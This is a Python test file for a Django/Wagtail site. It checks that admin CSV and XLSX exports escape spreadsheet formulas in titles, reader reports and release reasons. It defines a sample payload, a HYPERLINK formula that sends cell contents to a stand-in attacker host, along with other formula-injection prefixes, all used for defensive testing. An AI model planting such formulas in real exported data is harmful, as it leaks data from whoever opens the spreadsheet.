"""What leaves the lists as a spreadsheet runs nothing in it."""

import csv
import io

import pytest
from django.urls import get_resolver
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.views.reports.audit_logging import LogEntriesView as SiteHistory
from wagtail.models import Page, PageLogEntry
from wagtail_modeladmin.views import IndexView

from research.admin.records.studies_report import StudiesReportView
from research.models import ReaderReport, Release
from tests.factories import schedule

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
REPORTS = "/admin/research/readerreport/"
RELEASES = "/admin/research/release/"


def cells_of(client, address, kind):
    """Return the row under the heading of a list's export."""
    content = b"".join(client.get(address, {"export": kind}).streaming_content)
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode(), newline="")))[1]
    return [cell.value for cell in load_workbook(io.BytesIO(content)).active[2]]


def exporting_views(view=SpreadsheetExportMixin):
    """Return every view that exports, with those made of it."""
    return {found for made in view.__subclasses__() for found in ({made} | exporting_views(made))}


@pytest.mark.parametrize("value", [FORMULA, "+1", "\t=1", "@SUM(1)"])
def test_no_view_that_exports_writes_a_formula_ours_or_wagtails(value):
    get_resolver().url_patterns  # noqa: B018 - loads every view of the admin
    views = exporting_views()

    assert {IndexView, SiteHistory, StudiesReportView} <= views
    for view in views:
        written = [view.preprocess_field_value(view.__new__(view), "title", value, kind) for kind in ("csv", "xlsx")]
        assert all(text.startswith("'") for text in written), view


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
def test_a_formula_in_a_title_is_text_in_wagtails_own_reports(client, admin, public_article, kind, report):
    Page.objects.filter(pk=public_article.pk).update(title="=1+1", draft_title="=1+1")
    PageLogEntry.objects.filter(page=public_article.pk).update(label="=1+1")
    client.force_login(admin)

    answer = client.get(f"/admin/reports/{report}/", {"export": kind})

    content = b"".join(answer.streaming_content)
    rows = (
        list(csv.reader(io.StringIO(content.decode(), newline="")))
        if kind == "csv"
        else [[cell.value for cell in row] for row in load_workbook(io.BytesIO(content)).active]
    )
    cells = {cell for row in rows for cell in row}
    assert "'=1+1" in cells
    assert "=1+1" not in cells


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_in_a_readers_report_is_written_as_text(client, editor, public_article, kind):
    ReaderReport.objects.create(article=public_article, kind="wrong", words=FORMULA)
    client.force_login(editor)

    cells = cells_of(client, REPORTS, kind)

    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_in_a_line_of_the_ledger_is_written_as_text(client, editor, article, kind):
    release = schedule(article)
    Release.objects.filter(pk=release.pk).update(reason=FORMULA)
    client.force_login(editor)

    cells = cells_of(client, RELEASES, kind)

    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells
